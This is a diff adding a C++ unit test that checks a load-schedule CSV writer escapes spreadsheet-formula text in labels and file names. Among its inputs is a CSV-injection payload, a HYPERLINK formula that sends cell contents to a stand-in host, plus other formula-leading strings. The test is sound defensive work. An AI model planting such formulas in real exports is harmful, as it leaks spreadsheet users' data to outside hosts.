@@ -71,6 +71,47 @@ TEST(ScheduleCsv, EveryLabelReadsBackWithAStrictReader) {
     EXPECT_EQ(records.back()[1], "0.5");
 }
 
+TEST(ScheduleCsv, TextThatASpreadsheetWouldTakeAsAFormulaStaysTextAndFiguresStayNumbers) {
+    // An uplift load alone in type 1: its negative figures are numbers, not text.
+    const std::vector<IsolatorLoad> loads = {
+        {1, -42.5f, "-2+3"},
+        {2, 10.0f, "+1+1"},
+        {3, 20.0f, "@SUM(1,2)"},
+        {4, 30.0f, "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")"},
+        {5, 40.0f, "'s-Hertogenbosch"},
+        {6, 50.0f, "a=b+1 -2"},
+    };
+    const auto schedule = makeIsolatorSchedule(loads, std::vector{1, 2, 7});
+    std::ostringstream out;
+    writeScheduleCsv(out, schedule);
+    EXPECT_EQ(out.str(),
+              "type,isolators,smallest,largest (design load),mean,spread,largest above mean %\r\n"
+              "1,1,-42.5,-42.5,-42.50,0.00,\r\n"
+              "2,5,10,50,30.00,40.00,66.7\r\n"
+              "\r\n"
+              "line,load,type,label\r\n"
+              "1,-42.5,1,\"'-2+3\"\r\n"
+              "2,10,2,\"'+1+1\"\r\n"
+              "3,20,2,\"'@SUM(1,2)\"\r\n"
+              "4,30,2,\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"click\"\")\"\r\n"
+              "5,40,2,\"'s-Hertogenbosch\"\r\n"
+              "6,50,2,a=b+1 -2\r\n");
+
+    // The data file's name is text from outside too; a spreadsheet may drop a
+    // leading tab or CR and read the formula behind it.
+    RunSummary run{
+        "-tower.DAT", "Method2", {{2, ResultSetStatus::kOk, 12.5, typeSummaries(schedule)}}, {}};
+    std::ostringstream summary;
+    writeSummaryCsvRows(summary, run);
+    run.dataFile = "\ttower\r.DAT";
+    writeSummaryCsvRows(summary, run);
+    EXPECT_EQ(summary.str(),
+              "\"'-tower.DAT\",Method2,2,ok,12.50,1,1,-42.5,-42.5,-42.50\r\n"
+              "\"'-tower.DAT\",Method2,2,ok,12.50,2,5,10,50,30.00\r\n"
+              "\"'\ttower\r.DAT\",Method2,2,ok,12.50,1,1,-42.5,-42.5,-42.50\r\n"
+              "\"'\ttower\r.DAT\",Method2,2,ok,12.50,2,5,10,50,30.00\r\n");
+}
+
 TEST(SummaryCsv, OneRowPerTypeAndOnePerSetNotReached) {
     const auto loads = handWorkedLoads();
     RunSummary run;
